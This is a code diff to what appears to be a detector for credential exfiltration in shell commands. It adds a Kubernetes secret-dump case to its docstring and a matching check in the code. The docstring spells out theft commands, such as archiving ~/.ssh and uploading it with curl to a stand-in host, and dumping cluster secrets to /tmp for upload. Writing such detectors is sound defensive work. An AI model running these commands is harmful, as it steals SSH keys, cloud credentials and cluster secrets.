@@ -4,6 +4,8 @@ The single-line ``credential-exfil`` pattern sees a credential path *on* the sen
 command (``curl -d @~/.aws/credentials``). Thieves just as often pass the secret along:
 
 * through a pipe: ``tar czf - ~/.ssh | curl -T - https://drop.invalid``;
+* through a file a secret store's dump was written to: ``kubectl get secrets -A -o json >
+  /tmp/s.json``, then ``curl -F f=@/tmp/s.json …``;
 * through a file: ``tar czf /tmp/k.tgz ~/.ssh`` and, later, ``curl -F f=@/tmp/k.tgz …``;
 * through a staging folder: ``cp -r ~/.ssh "$D/keys"``, ``tar czf /tmp/b.tgz -C "$D" .``,
   then the archive sent;
@@ -38,6 +40,7 @@ import re
 from collections.abc import Iterator
 
 from .findings import ThreatFinding, line_finding
+from .flow.python_sources import SECRET_STORE_COMMAND
 from .literal_scan import FoldedText, folded_text, scanner_for
 from .normalise_powershell import SHELL_LANGUAGES
 from .normalise_shell import shell_words
@@ -126,6 +129,8 @@ def _reads_credentials(stage: list[str]) -> bool:
     arguments = _without_redirections(stage[_verb_index(stage) + 1 :])
     if verb in _ENV_DUMPS:
         return not [w for w in arguments if not w.startswith("-")]
+    if SECRET_STORE_COMMAND.search(" ".join(stage)):
+        return True
     if verb in _NOT_READING:
         return False
     for before, word in zip(["", *arguments], arguments, strict=False):
